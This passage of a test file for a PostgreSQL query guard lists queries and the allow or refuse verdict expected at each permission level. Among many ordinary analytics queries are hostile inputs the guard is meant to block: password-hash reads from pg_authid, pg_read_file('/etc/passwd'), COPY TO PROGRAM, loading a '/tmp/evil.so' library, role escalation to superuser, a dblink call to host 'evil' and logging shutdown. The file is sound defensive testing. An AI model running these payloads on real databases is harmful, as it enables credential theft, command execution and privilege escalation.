  "SELECT * FROM pg_authid",
  "SELECT rolpassword FROM pg_catalog.pg_authid",
  "SELECT * FROM pg_shadow",
  "SELECT query FROM pg_stat_activity",
  "SELECT * FROM pg_hba_file_rules",
  "SELECT * FROM pg_file_settings",
  "SELECT * FROM pg_largeobject",
  "SELECT * FROM pg_user_mappings",
  "SELECT * FROM pg_locks",
  "SELECT * FROM pg_config",
  "SELECT setconfig FROM pg_db_role_setting",
);
// The functions behind those catalogs are refused too (the view alone was not enough).
onAll("dangerous_function",
  "SELECT * FROM pg_get_replication_slots()",
  "SELECT pg_relation_filepath('album')",
  "SELECT pg_relation_filenode('album')",
  "SELECT * FROM pg_show_all_file_settings()",
  "SELECT * FROM pg_hba_file_rules()",
  "SELECT * FROM pg_control_system()",
  "SELECT * FROM pg_config()",
);
on(["read", "custom", "write", "open", "full"], "ok",
  "SELECT name, setting FROM pg_settings WHERE name = 'TimeZone'",
  "SELECT extname FROM pg_extension",
  "SELECT current_user, current_database(), version()",
  "SELECT current_setting('statement_timeout')",
  "SELECT datname FROM pg_database",
);

// ------------------------------------------------------------------ search_path, quoting and case folding
on("read", "ok",
  "SELECT name FROM genre",
  "SELECT name FROM public.genre",
  "SELECT name FROM sales.genre",
  "SELECT * FROM sales.customer",
  "SELECT * FROM ONLY note",
  "SELECT \"Id\", \"Label\" FROM \"MixedCase\"",
);
on("read", "undefined_table",
  "SELECT * FROM mixedcase",
  "SELECT * FROM \"Employee\"",
  "SELECT * FROM \"hr\".\"salary\"",
  "SELECT * FROM HR.SALARY",
  "SELECT * FROM public.\"employee_directory\"",
);
on("read", "undefined_column", "SELECT id FROM \"MixedCase\"", "SELECT \"EMAIL\" FROM customer", "SELECT \"Id\" FROM \"MixedCase\" m WHERE m.\"label\" = 'x'");
on("read", "ok", "SELECT first_name AS \"Email\" FROM customer");

// ------------------------------------------------------------------ DDL
on(["read", "open", "write"], "ddl_not_permitted",
  "CREATE TABLE x (id int)",
  "DROP TABLE album",
  "DROP TABLE IF EXISTS album CASCADE",
  "ALTER TABLE album ADD COLUMN x int",
  "TRUNCATE album",
  "TRUNCATE invoice",
  "CREATE INDEX ON album (title)",
  "CREATE VIEW v AS SELECT 1",
  "CREATE TABLE album_copy AS SELECT * FROM album",
  "ALTER TABLE album RENAME TO album2",
  "COMMENT ON TABLE album IS 'x'",
  "CREATE SEQUENCE s",
  "REFRESH MATERIALIZED VIEW invoice_totals",
  "CREATE SCHEMA evil",
  "DROP SCHEMA public CASCADE",
);
on("full", "ok",
  "CREATE TABLE scratch (id int PRIMARY KEY, note text CHECK (length(note) < 100))",
  "ALTER TABLE album ADD COLUMN released date",
  "CREATE INDEX ON track (composer)",
  "DROP TABLE IF EXISTS scratch",
  "CREATE VIEW rock AS SELECT t.name FROM track t JOIN genre g USING (genre_id) WHERE g.name = 'Rock'",
  "TRUNCATE playlist_track",
  "INSERT INTO album SELECT * FROM album WHERE false",
  "UPDATE employee SET title = title WHERE false",
  "SELECT bump_genre()",
  "CALL reset_genre()",
  "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
  "COMMENT ON TABLE album IS 'Albums'",
  "CREATE TABLE album_copy AS SELECT * FROM album",
  "REFRESH MATERIALIZED VIEW invoice_totals",
  "SELECT setval('ticket_seq', 10)",
);
on("full", "code_creation", "CREATE FUNCTION evil() RETURNS int LANGUAGE plpython3u AS 'import os'", "CREATE FUNCTION f() RETURNS int LANGUAGE c AS '/tmp/evil.so', 'f'", "CREATE FUNCTION g() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1'");
on(["read", "write", "custom"], "code_creation", "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", "CREATE TRIGGER t BEFORE INSERT ON album FOR EACH ROW EXECUTE FUNCTION f()", "CREATE RULE r AS ON INSERT TO album DO INSTEAD NOTHING");
on("custom", "ddl_not_permitted", "ALTER TABLE album ADD COLUMN x int", "DROP TABLE track", "CREATE TABLE x (id int)", "TRUNCATE album");
on("custom", "undefined_table", "DROP TABLE customer", "ALTER TABLE employee ADD COLUMN x int");

// ------------------------------------------------------------------ inheritance
on("read", "hidden_inheritance", "SELECT id, body FROM note", "SELECT count(*) FROM note", "SELECT * FROM note n JOIN album a ON a.album_id = n.id");
on("read", "undefined_table", "SELECT * FROM secret_note", "SELECT classified FROM ONLY secret_note");
on(["write", "open"], "ok", "SELECT id, body FROM note", "SELECT * FROM secret_note");

// ------------------------------------------------------------------ resource abuse
const deep = `SELECT ${"(".repeat(400)}1${")".repeat(400)}`;
const deeper = `SELECT ${"(".repeat(20000)}1${")".repeat(20000)}`;
const nestedSubqueries = `SELECT 1 FROM ${"(SELECT 1 FROM ".repeat(150)}album${") x".repeat(150)}`;
onAll("statement_too_complex", deeper, nestedSubqueries, `SELECT 1 ${"+ 1 ".repeat(20000)}`, Array.from({ length: 60 }, () => "SELECT 1").join(";"));
onAll("statement_too_long", `SELECT '${"x".repeat(100_001)}'`);
on(["read", "open"], "ok", deep, `SELECT ${Array.from({ length: 300 }, (_, i) => `${i} AS c${i}`).join(", ")}`, `SELECT title FROM album WHERE album_id IN (${Array.from({ length: 2000 }, (_, i) => i).join(",")})`);

// ------------------------------------------------------------------ more legitimate work a naive guard trips on
on("custom", "ok",
  "SELECT title FROM album ORDER BY title LIMIT 20",
  "SELECT ar.name, al.title FROM artist ar LEFT JOIN album al ON al.artist_id = ar.artist_id WHERE al.album_id IS NULL",
  "SELECT name FROM genre",
  "SELECT g.name, count(t.track_id) FROM genre g LEFT JOIN track t USING (genre_id) GROUP BY g.name ORDER BY 2 DESC",
  "WITH long_tracks AS (SELECT track_id, name, milliseconds FROM track WHERE milliseconds > 300000) SELECT count(*) FROM long_tracks",
  "SELECT name, milliseconds / 1000 AS seconds, ntile(4) OVER (ORDER BY milliseconds) FROM track",
  "SELECT album_id, string_agg(name, '; ') FROM track GROUP BY album_id",
  "SELECT * FROM playlist",
  "SELECT playlist_id, name FROM playlist WHERE name ILIKE '%drop table%'",
  "INSERT INTO playlist (playlist_id, name) SELECT 500 + artist_id, name FROM artist WHERE artist_id < 3",
  "UPDATE playlist SET name = upper(name) WHERE playlist_id > 1000 RETURNING playlist_id, name",
  "INSERT INTO genre (genre_id, name) VALUES (900, 'Polka') ON CONFLICT DO NOTHING",
  "SELECT t.name, a.title, ar.name FROM track t JOIN album a USING (album_id) JOIN artist ar USING (artist_id) LIMIT 5",
  "SELECT count(*) FILTER (WHERE composer IS NULL) FROM track",
  "EXPLAIN SELECT t.name FROM track t WHERE t.album_id = 5",
  "SELECT title FROM album WHERE album_id BETWEEN 1 AND 10 AND title NOT LIKE 'A%'",
  "SELECT exists(SELECT 1 FROM album WHERE title = 'Let There Be Rock')",
  "SELECT DISTINCT genre_id FROM track",
  "SELECT name FROM artist WHERE name SIMILAR TO '%(Rock|Metal)%'",
  "SELECT max(title) FROM album UNION ALL SELECT min(name) FROM artist",
  "SELECT a.title, (SELECT count(*) FROM track t WHERE t.album_id = a.album_id) AS tracks FROM album a",
  "SELECT composer, count(*) FROM track WHERE composer IS NOT NULL GROUP BY composer HAVING count(*) > 10",
  "SELECT * FROM album a WHERE EXISTS (SELECT 1 FROM track t WHERE t.album_id = a.album_id AND t.milliseconds > 1)",
  "SELECT 'SELECT * FROM customer' AS sql_text",
  "SELECT name FROM track WHERE name = 'DELETE FROM album'",
  "VALUES (1), (2)",
  "SELECT name AS bytes FROM track ORDER BY bytes",
  "SELECT current_date - 7",
  "SELECT array_agg(DISTINCT genre_id ORDER BY genre_id) FROM track",
  "SELECT t.track_id, t.name FROM track t WHERE t.name ~ '^[A-C]'",
);
on(["open", "full"], "ok",
  "SELECT c.first_name, c.email FROM customer c WHERE c.country = 'Brazil'",
  "SELECT e.first_name, m.first_name AS manager FROM employee e LEFT JOIN employee m ON m.employee_id = e.reports_to",
  "SELECT * FROM employee WHERE title LIKE '%Manager%'",
  "SELECT c.first_name, e.last_name AS rep FROM customer c JOIN employee e ON e.employee_id = c.support_rep_id",
  "SELECT row_to_json(c) FROM customer c LIMIT 1",
  "SELECT * FROM customer NATURAL JOIN invoice LIMIT 1",
  "SELECT * FROM customer_contacts LIMIT 3",
  "SELECT * FROM nested_contacts LIMIT 3",
  "SELECT * FROM audit_log",
  "SELECT amount FROM hr.salary",
  "SELECT table_schema, table_name FROM information_schema.tables WHERE table_schema NOT IN ('pg_catalog', 'information_schema')",
  "SELECT routine_name FROM information_schema.routines WHERE routine_schema = 'public'",
  "SELECT viewname, definition FROM pg_views WHERE schemaname = 'public'",
  "SELECT indexname, indexdef FROM pg_indexes WHERE tablename = 'track'",
  "SELECT c.relname, a.attname, format_type(a.atttypid, a.atttypmod) FROM pg_class c JOIN pg_attribute a ON a.attrelid = c.oid WHERE c.relname = 'album' AND a.attnum > 0",
  "SELECT relname, n_live_tup FROM pg_stat_user_tables ORDER BY n_live_tup DESC",
  "SELECT proname, provolatile FROM pg_proc WHERE pronamespace = 'public'::regnamespace",
  "SELECT has_table_privilege('album', 'select')",
  "SELECT pg_relation_size('album')",
  "SELECT * FROM pg_sequences",
  "SELECT 'employee'::regclass",
  "SELECT to_regclass('hr.salary')",
  "SELECT * FROM secret_note",
  "SELECT id, body FROM note",
  "SELECT email FROM customer WHERE email LIKE '%.com' LIMIT 3",
  "SELECT customer_email(1)",
  "SELECT definer_salary(1)",
);
on("write", "ok",
  "SELECT first_name, last_name FROM customer WHERE customer_id = 1",
  "SELECT i.invoice_id, il.track_id FROM invoice i JOIN invoice_line il USING (invoice_id) WHERE i.customer_id = 1",
  "INSERT INTO invoice_line (invoice_line_id, invoice_id, track_id, unit_price, quantity) VALUES (-10, 1, 1, 0.99, 1) RETURNING invoice_line_id",
  "UPDATE invoice_line SET quantity = quantity + 1 WHERE invoice_line_id = -10",
  "DELETE FROM invoice_line WHERE invoice_line_id = -10 RETURNING invoice_line_id, quantity",
  "UPDATE customer SET company = 'Acme' WHERE customer_id = -1",
  "SELECT count(*) FROM customer c WHERE c.company IS NULL",
  "MERGE INTO invoice_line il USING (VALUES (-11, 1, 1, 0.99, 1)) AS v(id, inv, tr, price, qty) ON il.invoice_line_id = v.id WHEN NOT MATCHED THEN INSERT (invoice_line_id, invoice_id, track_id, unit_price, quantity) VALUES (v.id, v.inv, v.tr, v.price, v.qty)",
  "SELECT title FROM album WHERE title = 'INSERT INTO invoice VALUES (1)'",
);
on("read", "ok",
  "SELECT c.first_name, c.last_name, c.country FROM customer c ORDER BY c.last_name",
  "SELECT country, count(*) FROM customer GROUP BY country",
  "SELECT c.customer_id, sum(i.total) FROM customer c JOIN invoice i ON i.customer_id = c.customer_id GROUP BY c.customer_id ORDER BY 2 DESC LIMIT 5",
  "SELECT first_name || ' ' || last_name AS full_name FROM customer",
  "SELECT company FROM customer WHERE company IS NOT NULL",
  "SELECT postal_code, city, state FROM customer WHERE country = 'USA'",
  "SELECT support_rep_id, count(*) FROM customer GROUP BY support_rep_id",
  "SELECT * FROM invoice WHERE customer_id = 1",
  "SELECT * FROM customer_names WHERE country = 'Canada'",
  "SELECT jsonb_agg(jsonb_build_object('first', first_name)) FROM customer",
  "SELECT c.first_name FROM customer c WHERE NOT EXISTS (SELECT 1 FROM invoice i WHERE i.customer_id = c.customer_id)",
  "SELECT 'employee' AS word, 'email' AS another",
  "SELECT first_name FROM customer WHERE first_name = 'email'",
  "SELECT * FROM sales.customer",
  "SELECT name, setting FROM pg_settings WHERE name LIKE 'work_mem'",
);

// ------------------------------------------------------------------ CTE names shadow tables (hidden or not)
on("read", "ok",
  "WITH employee AS (SELECT 1 AS employee_id) SELECT employee_id FROM employee",
  "WITH customer AS (SELECT customer_id, first_name FROM customer) SELECT * FROM customer",
  "WITH email AS (SELECT 'x' AS email) SELECT email FROM email",
  "WITH RECURSIVE employee(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM employee WHERE n < 3) SELECT * FROM employee",
);
on("read", "undefined_table",
  "WITH x AS (SELECT 1) SELECT * FROM employee",
  "WITH employee AS (SELECT * FROM employee) SELECT 1 FROM employee",
  "SELECT * FROM audit_log_id_seq",
  "SELECT last_value FROM public.audit_log_id_seq",
);
on("read", "hidden_columns_wildcard", "WITH customer AS (SELECT * FROM customer) SELECT first_name FROM customer");
on("open", "ok", "SELECT last_value FROM audit_log_id_seq", "SELECT reverse(1)");
// public.reverse(int) reads employee: a call PostgreSQL could resolve to it is checked as a user function
// (by name and argument count: the checker does not infer types).
on(["read", "write"], "function_unverified", "SELECT reverse(1)", "SELECT reverse(album_id) FROM album");
on(["read", "write"], "ok", "SELECT reverse('abc', 'x') IS NULL OR true", "SELECT reverse()");

// ------------------------------------------------------------------ an agent's everyday analysis (must keep working on links that hide things)
const EVERYDAY = [
  "SELECT count(*) FROM invoice",
  "SELECT billing_country, round(sum(total), 2) AS revenue FROM invoice GROUP BY billing_country ORDER BY revenue DESC LIMIT 10",
  "SELECT date_trunc('month', invoice_date) AS month, sum(total) FROM invoice GROUP BY 1 ORDER BY 1",
  "SELECT extract(year FROM invoice_date) AS y, count(*) FROM invoice GROUP BY y ORDER BY y",
  "SELECT il.track_id, sum(il.quantity) AS sold FROM invoice_line il GROUP BY il.track_id ORDER BY sold DESC LIMIT 10",
  "SELECT t.name, sum(il.unit_price * il.quantity) AS revenue FROM invoice_line il JOIN track t ON t.track_id = il.track_id GROUP BY t.name ORDER BY revenue DESC LIMIT 10",
  "SELECT g.name AS genre, count(*) AS tracks, avg(t.milliseconds) / 60000 AS avg_minutes FROM track t JOIN genre g ON g.genre_id = t.genre_id GROUP BY g.name",
  "SELECT ar.name, count(al.album_id) AS albums FROM artist ar JOIN album al ON al.artist_id = ar.artist_id GROUP BY ar.name HAVING count(al.album_id) > 3 ORDER BY albums DESC",
  "SELECT m.name, count(*) FROM track t JOIN media_type m ON m.media_type_id = t.media_type_id GROUP BY m.name",
  "SELECT p.name, count(pt.track_id) FROM playlist p LEFT JOIN playlist_track pt ON pt.playlist_id = p.playlist_id GROUP BY p.name ORDER BY 2 DESC",
  "SELECT c.country, count(DISTINCT c.customer_id) AS customers, sum(i.total) AS revenue FROM customer c JOIN invoice i ON i.customer_id = c.customer_id GROUP BY c.country ORDER BY revenue DESC",
  "SELECT c.first_name, c.last_name, count(i.invoice_id) AS orders FROM customer c LEFT JOIN invoice i ON i.customer_id = c.customer_id GROUP BY c.customer_id, c.first_name, c.last_name ORDER BY orders DESC LIMIT 5",
  "WITH monthly AS (SELECT date_trunc('month', invoice_date) AS m, sum(total) AS t FROM invoice GROUP BY 1) SELECT m, t, t - lag(t) OVER (ORDER BY m) AS delta FROM monthly ORDER BY m",
  "WITH ranked AS (SELECT t.track_id, t.name, t.genre_id, rank() OVER (PARTITION BY t.genre_id ORDER BY t.milliseconds DESC) AS r FROM track t) SELECT * FROM ranked WHERE r = 1",
  "SELECT a.title, sum(t.milliseconds) / 60000.0 AS minutes FROM album a JOIN track t ON t.album_id = a.album_id GROUP BY a.title ORDER BY minutes DESC LIMIT 5",
  "SELECT invoice_id, total, sum(total) OVER (ORDER BY invoice_date ROWS BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW) AS running FROM invoice ORDER BY invoice_date LIMIT 20",
  "SELECT billing_city, billing_country FROM invoice WHERE billing_country IN ('France', 'Germany') GROUP BY 1, 2",
  "SELECT * FROM invoice WHERE invoice_date >= now() - interval '30 years' ORDER BY invoice_date DESC LIMIT 5",
  "SELECT invoice_id FROM invoice WHERE total BETWEEN 5 AND 10 AND billing_state IS NULL",
  "SELECT t.name FROM track t WHERE t.track_id NOT IN (SELECT track_id FROM invoice_line)",
  "SELECT corr(milliseconds, bytes) FROM track",
  "SELECT width_bucket(total, 0, 30, 6) AS bucket, count(*) FROM invoice GROUP BY 1 ORDER BY 1",
  "SELECT percentile_disc(0.9) WITHIN GROUP (ORDER BY total) FROM invoice",
  "SELECT mode() WITHIN GROUP (ORDER BY billing_country) FROM invoice",
  "SELECT count(*) FILTER (WHERE total > 10) AS big, count(*) FILTER (WHERE total <= 10) AS small FROM invoice",
  "SELECT json_build_object('invoices', count(*), 'revenue', sum(total)) FROM invoice",
  "SELECT a.album_id, a.title FROM album a WHERE a.title ILIKE ANY (ARRAY['%live%', '%best%'])",
  "SELECT t.name, t.composer FROM track t WHERE t.composer LIKE '%Mercury%'",
  "SELECT i.invoice_id, count(il.invoice_line_id) FROM invoice i JOIN invoice_line il USING (invoice_id) GROUP BY i.invoice_id HAVING count(*) > 10",
  "SELECT s.region_id, s.name FROM sales.region s ORDER BY s.name",
];
on(["read", "open", "full"], "ok", ...EVERYDAY);
on("write", "ok", ...EVERYDAY.filter((q) => !q.includes("sales.")));
on("custom", "ok",
  "SELECT a.title, count(t.track_id) FROM album a JOIN track t ON t.album_id = a.album_id GROUP BY a.title ORDER BY 2 DESC LIMIT 10",
  "SELECT ar.name, count(*) FROM artist ar JOIN album al ON al.artist_id = ar.artist_id GROUP BY ar.name ORDER BY 2 DESC LIMIT 5",
  "SELECT g.name, avg(t.milliseconds) FROM genre g JOIN track t ON t.genre_id = g.genre_id GROUP BY g.name",
  "WITH per_album AS (SELECT album_id, count(*) AS n FROM track GROUP BY album_id) SELECT max(n), min(n), avg(n) FROM per_album",
  "SELECT t.name, rank() OVER (PARTITION BY t.album_id ORDER BY t.milliseconds DESC) FROM track t WHERE t.album_id < 5",
  "SELECT title FROM album WHERE artist_id IN (SELECT artist_id FROM artist WHERE name LIKE 'A%')",
  "SELECT name FROM artist WHERE NOT EXISTS (SELECT 1 FROM album WHERE album.artist_id = artist.artist_id)",
  "SELECT count(*) FROM playlist",
  "SELECT p.playlist_id, p.name FROM playlist p ORDER BY p.name",
  "SELECT composer, count(*) FROM track GROUP BY composer ORDER BY 2 DESC NULLS LAST LIMIT 10",
  "SELECT track_id, name, milliseconds FROM track WHERE milliseconds > (SELECT avg(milliseconds) FROM track) LIMIT 10",
  "SELECT a.title, ar.name FROM album a, artist ar WHERE a.artist_id = ar.artist_id AND ar.name = 'AC/DC'",
  "SELECT upper(g.name) FROM genre g ORDER BY 1",
  "SELECT t.album_id, string_agg(t.name, ', ' ORDER BY t.track_id) FROM track t WHERE t.album_id = 1 GROUP BY t.album_id",
  "SELECT t.name FROM track t JOIN album a USING (album_id) WHERE a.title = 'Let There Be Rock'",
  "SELECT genre_id, name FROM genre WHERE name IN ('Rock', 'Jazz', 'Blues')",
  "SELECT count(DISTINCT composer) FROM track",
  "SELECT min(track_id), max(track_id) FROM track",
  "SELECT artist_id, name FROM artist ORDER BY artist_id DESC LIMIT 3",
  "SELECT a.album_id, (SELECT count(*) FROM track t WHERE t.album_id = a.album_id) AS n FROM album a ORDER BY n DESC LIMIT 3",
  "UPDATE genre SET name = name WHERE genre_id = -1",
  "DELETE FROM playlist WHERE name = 'does not exist'",
  "INSERT INTO playlist (playlist_id, name) VALUES (-1, 'SELECT * FROM customer')",
  "SELECT 1 AS customer, 2 AS employee, 'invoice' AS email",
  "SELECT t.name AS unit_price, t.name AS bytes FROM track t",
);

// ------------------------------------------------------------------ spelling tricks the parser sees through
on("read", "undefined_column",
  'SELECT U&"\\0065mail" FROM customer',
  'SELECT first_name FROM customer WHERE U&"ph\\006Fne" IS NULL',
  "SELECT c.\"email\" FROM customer AS \"c\"",
);
on("read", "undefined_table", 'SELECT 1 FROM U&"\\0065mployee"', "SELECT 1 FROM public . employee", "SELECT 1 FROM/**/employee");
on("read", "ok",
  "SELECT 1 /* ; DELETE FROM album */",
  "SELECT title FROM album WHERE album_id = $1",
  "SELECT xmlelement(name email, first_name) FROM customer LIMIT 1",
  "SELECT first_name FROM customer c, LATERAL (SELECT c.customer_id * 2 AS doubled) x WHERE x.doubled > 4",
);
on("read", "undefined_column", "SELECT first_name FROM customer c, LATERAL (SELECT c.email) x");
on(["read", "write"], "dangerous_function", "SELECT pg_catalog.pg_sleep(1) FROM album", "SELECT \"pg_sleep\"(1)", "SELECT PG_SLEEP(1)");

// ------------------------------------------------------------------ admin links that still hide things
on("adminHiding", "ok",
  "CREATE TABLE scratch2 (id int)",
  "ALTER TABLE album ADD COLUMN note text",
  "CREATE VIEW album_titles AS SELECT title FROM album",
  "UPDATE customer SET first_name = first_name WHERE false",
  "DROP TABLE IF EXISTS scratch2",
  "SELECT first_name FROM customer",
  "TRUNCATE playlist_track",
);
on("adminHiding", "ddl_not_permitted",
  "ALTER TABLE customer RENAME COLUMN email TO contact",
  "ALTER TABLE customer RENAME TO clients",
  "ALTER TABLE customer DROP COLUMN email",
  "ALTER TABLE customer ALTER COLUMN email DROP NOT NULL",
  "COMMENT ON COLUMN customer.email IS 'x'",
  "DROP TABLE invoice CASCADE",
  "ALTER SCHEMA public RENAME TO p2",
  "TRUNCATE customer",
);
on("adminHiding", "undefined_table", "DROP TABLE employee", "ALTER TABLE employee RENAME TO staff", "CREATE VIEW staff AS SELECT * FROM employee");
on("adminHiding", "hidden_columns_wildcard", "CREATE VIEW all_customers AS SELECT * FROM customer", "CREATE TABLE customer_copy AS SELECT * FROM customer");
on("adminHiding", "code_creation", "CREATE FUNCTION leak() RETURNS SETOF text LANGUAGE sql AS 'SELECT email FROM customer'", "CREATE TRIGGER t AFTER INSERT ON album FOR EACH ROW EXECUTE FUNCTION bump_genre()");
on("adminHiding", "volatile_function", "SELECT bump_genre()");
on("adminHiding", "call_procedure", "CALL reset_genre()");

// ------------------------------------------------------------------ row types name their table and columns
on("read", "undefined_table", "SELECT null::employee", "SELECT * FROM json_populate_record(null::employee, '{}')", "SELECT 'employee'::regtype", "SELECT null::hr.salary", "SELECT null::hr.anything");
on("read", "hidden_columns_wildcard", "SELECT * FROM jsonb_populate_record(null::customer, '{}')", "SELECT (null::public.customer) IS NULL");
on("read", "ok", "SELECT null::album", "SELECT * FROM json_populate_record(null::album, '{\"title\": \"x\"}')", "SELECT 'text'::regtype", "SELECT '1'::int4, 'x'::varchar(3)");

// ------------------------------------------------------------------ EXPLAIN VERBOSE prints scan output columns (hidden ones too)
on(["read", "write", "custom", "adminHiding"], "explain_verbose", "EXPLAIN VERBOSE SELECT 1", "EXPLAIN (VERBOSE, COSTS OFF) SELECT title FROM album");
on(["open", "full"], "ok", "EXPLAIN VERBOSE SELECT c.first_name FROM customer c JOIN invoice i USING (customer_id)", "EXPLAIN (VERBOSE true) SELECT 1");
on(["read", "custom"], "ok", "EXPLAIN (VERBOSE false) SELECT 1", "EXPLAIN (VERBOSE off, COSTS off) SELECT 2");

// Pooled sessions are shared between callers: a session's last generated id is not this caller's.
on(["read", "write", "full"], "function_not_allowed", "SELECT lastval()", "SELECT currval('ticket_seq')", "SELECT currval('audit_log_id_seq')");

on(["full", "adminHiding", "read"], "session_state", "CREATE TEMP TABLE album AS SELECT 1 AS x", "CREATE TEMPORARY VIEW album AS SELECT 1", "CREATE TABLE pg_temp.album (x int)");

// ------------------------------------------------------------------ an attacker with a full (admin) link writes code
// Function bodies and DO blocks are compiled with the server's PL/pgSQL grammar; every statement and
// expression inside is checked against the scope, so no escape refused at the top level works inside.
on("full", "ok",
  "DO $$ BEGIN DELETE FROM album WHERE false; END $$",
  "DO 'BEGIN DELETE FROM album WHERE false; END'",
  "DO $$ DECLARE n int; BEGIN SELECT count(*) INTO n FROM track; IF n > 0 THEN UPDATE genre SET name = name WHERE genre_id = -1; END IF; END $$",
  "CREATE FUNCTION album_count(a int) RETURNS bigint LANGUAGE plpgsql AS $$ DECLARE n bigint := 0; BEGIN n := (SELECT count(*) FROM track WHERE album_id = a); RETURN n; END $$",
  "CREATE FUNCTION titles() RETURNS SETOF text LANGUAGE plpgsql AS $$ DECLARE r record; BEGIN FOR r IN SELECT title FROM album LOOP RETURN NEXT r.title; END LOOP; END $$",
  "CREATE FUNCTION twice(x int) RETURNS int LANGUAGE sql AS 'SELECT x * 2'",
  "CREATE FUNCTION thrice(x int) RETURNS int LANGUAGE sql RETURN x * 3",
  "CREATE FUNCTION newest() RETURNS SETOF album LANGUAGE sql BEGIN ATOMIC SELECT * FROM album ORDER BY album_id DESC LIMIT 1; END",
  "CREATE PROCEDURE touch_genre() LANGUAGE plpgsql AS $$ BEGIN UPDATE genre SET name = name WHERE false; END $$",
  "CREATE FUNCTION g() RETURNS int LANGUAGE sql SECURITY INVOKER AS 'SELECT 1'",
);
on("full", "dynamic_sql",
  "CREATE FUNCTION pwn() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'COPY (SELECT 1) TO PROGRAM ''id'''; END $$",
  "CREATE FUNCTION pwn(c text) RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE c; END $$",
  "CREATE FUNCTION pwn() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE format('SELECT %s', 1); END $$",
  "CREATE FUNCTION pwn() RETURNS SETOF record LANGUAGE plpgsql AS $$ BEGIN RETURN QUERY EXECUTE 'SELECT 1'; END $$",
  "CREATE FUNCTION pwn() RETURNS void LANGUAGE plpgsql AS $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'SELECT 1' LOOP END LOOP; END $$",
  "CREATE FUNCTION pwn() RETURNS void LANGUAGE plpgsql AS $$ DECLARE c refcursor; BEGIN OPEN c FOR EXECUTE 'SELECT 1'; END $$",
  "DO $$ BEGIN EXECUTE 'ALTER SYSTEM SET log_statement = ''none'''; END $$",
  "DO $$ BEGIN IF true THEN BEGIN EXECUTE 'SELECT 1'; END; END IF; END $$",
);
on("full", "copy_program",
  "CREATE FUNCTION pwn() RETURNS void LANGUAGE plpgsql AS $$ BEGIN COPY (SELECT 1) TO PROGRAM 'id'; END $$",
  "DO $$ BEGIN COPY album FROM '/etc/passwd'; END $$",
  "CREATE FUNCTION pwn() RETURNS void LANGUAGE sql AS $$ COPY (SELECT 1) TO PROGRAM 'id' $$",
);
on("full", "dangerous_function",
  "CREATE FUNCTION pwn() RETURNS text LANGUAGE plpgsql AS $$ BEGIN RETURN pg_read_file('/etc/passwd'); END $$",
  "CREATE FUNCTION pwn() RETURNS text LANGUAGE plpgsql AS $$ DECLARE t text := pg_read_file('/etc/passwd'); BEGIN RETURN t; END $$",
  "CREATE FUNCTION pwn() RETURNS void LANGUAGE plpgsql AS $$ DECLARE t text; BEGIN t := set_config('role', 'postgres', false); END $$",
  "CREATE FUNCTION pwn() RETURNS void LANGUAGE plpgsql AS $$ DECLARE a text[]; BEGIN a[(SELECT length(pg_read_file('/etc/passwd')))] := 'x'; END $$",
  "CREATE FUNCTION pwn() RETURNS bigint LANGUAGE sql AS 'SELECT lo_import(''/etc/passwd'')::bigint'",
  "CREATE FUNCTION pwn() RETURNS text LANGUAGE sql RETURN pg_read_file('/etc/passwd')",
  "CREATE FUNCTION pwn() RETURNS SETOF text LANGUAGE sql BEGIN ATOMIC SELECT pg_read_file('/etc/passwd'); END",
  "DO $$ BEGIN PERFORM pg_sleep(1); END $$",
  "DO $$ BEGIN PERFORM dblink_exec('host=evil', 'x'); END $$",
  "DO $$ DECLARE c CURSOR FOR SELECT pg_ls_dir('/'); BEGIN END $$",
  "DO $$ BEGIN IF pg_terminate_backend(1) THEN NULL; END IF; END $$",
  "DO $$ BEGIN RAISE NOTICE '%', pg_read_file('/etc/passwd'); END $$",
  "DO $$ BEGIN DO $i$ BEGIN PERFORM pg_read_file('/etc/passwd'); END $i$; END $$",
  "DO $$ BEGIN CREATE FUNCTION inner_pwn() RETURNS text LANGUAGE sql AS 'SELECT pg_read_file(''/etc/passwd'')'; END $$",
);
on("full", "alter_system", "DO $$ BEGIN ALTER SYSTEM SET log_statement = 'none'; END $$");
on("full", "transaction_control",
  "DO $$ BEGIN COMMIT; PERFORM count(*) FROM track, track t2, track t3; END $$",
  "CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN UPDATE genre SET name = name WHERE false; ROLLBACK; END $$",
);
// The body is found by the parser's byte offsets: statements before it, multi-byte text, comments.
on("full", "dangerous_function",
  "SELECT 1; CREATE FUNCTION pwn() RETURNS text LANGUAGE plpgsql AS $$ BEGIN RETURN pg_read_file('/etc/passwd'); END $$",
  "SELECT 'é€😀'; /* ü */ CREATE FUNCTION pwn() RETURNS text LANGUAGE plpgsql AS $$ BEGIN RETURN pg_read_file('/etc/passwd'); END $$",
  "CREATE FUNCTION ok1() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$; CREATE FUNCTION pwn() RETURNS text LANGUAGE plpgsql AS $$ BEGIN RETURN pg_read_file('/etc/passwd'); END $$",
  "CREATE FUNCTION \"é\"() RETURNS text LANGUAGE plpgsql AS $body$ BEGIN RETURN 'ü' || pg_read_file('/etc/passwd'); END $body$",
);
on("full", "load_library", "CREATE PROCEDURE pwn() LANGUAGE plpgsql AS $$ BEGIN LOAD '/tmp/evil.so'; END $$");
on("full", "session_state",
  "CREATE FUNCTION pwn() RETURNS void LANGUAGE plpgsql AS $$ BEGIN SET ROLE postgres; END $$",
  "DO $$ BEGIN SET SESSION AUTHORIZATION postgres; END $$",
  "CREATE FUNCTION pwn() RETURNS void LANGUAGE sql AS 'RESET ROLE'",
  "CREATE FUNCTION pwn() RETURNS int LANGUAGE sql SET role = postgres AS 'SELECT 1'",
  "ALTER FUNCTION add_one(int) SET role = postgres",
);
on("full", "role_management",
  "DO $$ BEGIN ALTER ROLE CURRENT_USER SUPERUSER; END $$",
  "CREATE FUNCTION pwn() RETURNS void LANGUAGE plpgsql AS $$ BEGIN GRANT pg_execute_server_program TO CURRENT_USER; END $$",
);
on("full", "create_extension", "DO $$ BEGIN CREATE EXTENSION dblink; END $$");
on("full", "server_escape", "DO $$ BEGIN CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f(); END $$");
